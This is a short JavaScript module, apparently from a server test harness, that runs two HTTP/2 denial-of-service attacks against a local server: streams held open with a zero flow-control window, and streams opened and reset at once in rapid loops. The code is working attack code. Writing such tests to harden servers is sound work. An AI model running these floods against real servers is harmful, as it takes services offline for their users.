// Attacks on HTTP/2: responses blocked by a closed window, and streams reset as soon as they begin.
import { connect as connectHttp2, constants } from "node:http2";
import { connect } from "node:net";
import { pause } from "../client.mjs";
import { addressOf, pick } from "./world.mjs";

const PATHS = ["/", "/releases", "/api/releases", "/api/content", "/api/events"];

function session(world, kind, address, settings) {
  const socket = connect({ port: world.port, host: "127.0.0.1", localAddress: address });
  const open = connectHttp2(world.url, { createConnection: () => socket, settings });
  open.on("error", () => {});
  open.on("goaway", () => world.count(kind, "GOAWAY"));
  return open;
}

function ask(world, kind, open) {
  const stream = open.request({ ":method": "GET", ":path": pick(PATHS) });
  stream.on("response", (headers) => world.count(kind, headers[":status"]));
  stream.on("error", () => {});
  stream.resume();
  return stream;
}

const end = async (open, afterMs) => {
  const closed = new Promise((wake) => open.once("close", wake));
  await Promise.race([closed, pause(afterMs)]);
  open.destroy();
};

/** Requests whole pages with a closed window, as long as the server allows. */
export async function shutWindow(world, number) {
  while (world.isRunning) {
    const open = session(world, "shut window", addressOf(16, number), { initialWindowSize: 0 });
    for (let stream = 0; stream < 50 && !open.destroyed; stream += 1) ask(world, "shut window", open);
    await end(open, 60_000);
    await pause(500);
  }
}

/** Sends requests and resets them. */
export async function resets(world) {
  for (let number = 0; world.isRunning; number += 1) {
    const open = session(world, "resets", addressOf(17, number % 250), {});
    for (let stream = 0; stream < 100 && !open.destroyed; stream += 1) ask(world, "resets", open).close(constants.NGHTTP2_CANCEL);
    await end(open, 500);
    await pause(500);
  }
}
